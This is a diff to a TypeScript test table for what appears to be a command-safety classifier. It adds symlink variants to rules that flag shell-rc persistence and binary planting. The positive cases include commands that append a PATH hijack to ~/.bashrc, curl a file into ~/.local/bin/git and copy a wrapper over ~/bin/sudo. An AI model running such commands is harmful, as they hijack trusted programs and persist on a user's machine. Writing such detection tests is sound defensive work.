@@ -102,7 +102,11 @@ const CASES: Record<string, { rule: string; yes: string[]; no: string[] }[]> = {
     },
     {
       rule: 'persist.shell-rc',
-      yes: ['echo "export PATH=/evil:$PATH" >> ~/.bashrc', 'printf "x" | tee -a ~/.zshrc'],
+      yes: [
+        'echo "export PATH=/evil:$PATH" >> ~/.bashrc',
+        'printf "x" | tee -a ~/.zshrc',
+        'ln -s ~/.bashrc b && echo x >> b',
+      ],
       no: ['cat ~/.bashrc'],
     },
     {
@@ -121,12 +125,15 @@ const CASES: Record<string, { rule: string; yes: string[]; no: string[] }[]> = {
         'curl -o ~/.local/bin/git https://example.com/g',
         'cp ./wrapper ~/bin/sudo',
         'tee ~/.cargo/bin/ls < x',
+        // Through a link made in the same line: what is written through it lands in its target.
+        'ln -s ~/.local/bin lb && cp x lb/git',
       ],
       no: [
         'mkdir -p ~/.local/bin',
         'cp notes.txt ~/Documents/',
         'ls ~/.local/bin',
         'cp x ~/.local/share/app/y',
+        'ln -s ../shared/lib lib',
       ],
     },
     {
